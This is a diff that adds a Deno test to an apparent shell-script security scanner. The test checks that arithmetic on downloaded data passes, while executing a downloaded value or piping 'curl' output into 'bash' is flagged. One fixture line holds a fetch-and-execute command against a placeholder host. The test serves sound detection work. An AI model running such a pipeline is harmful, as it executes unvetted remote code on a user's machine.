@@ -515,6 +515,23 @@ Deno.test("targets unpacked from as many values each hold their own: two provide
   );
 });
 
+Deno.test("an arithmetic command computes a number from downloaded data, it runs none; the commands around it and inside its substitutions still run", () => {
+  const found = (body: string) =>
+    findings({ "scripts/usage.sh": `#!/bin/bash\n${body}\n` })
+      .filter((f) => /flow|execute/.test(f.rule)).map((f) => [f.rule, f.line]);
+  // A storage report: a quota percentage from the API compared with bc.
+  const fetched = "PCT=$(curl -s https://api.example.net/usage | jq -r .pct)\n";
+  assert.deepEqual(
+    found(`${fetched}if (( $(echo "$PCT >= 90" | bc -l) )); then\n  echo high\nfi\n((n++))`),
+    [],
+  );
+  assert.deepEqual(found(`${fetched}(( 1 )) && $PCT`), [["download-exec-flow", 3]]);
+  assert.deepEqual(found("if (( $(curl -s https://get.example.net/x | bash) )); then :; fi"), [[
+    "fetch-and-execute",
+    2,
+  ]]);
+});
+
 Deno.test("one member of a copy of the environment is that variable; the whole copy stays the environment", () => {
   const flows = (files: Record<string, string>) =>
     ruleAt(findings(files), "secret-flow").map((f) => [f.severity, f.excerpt]);
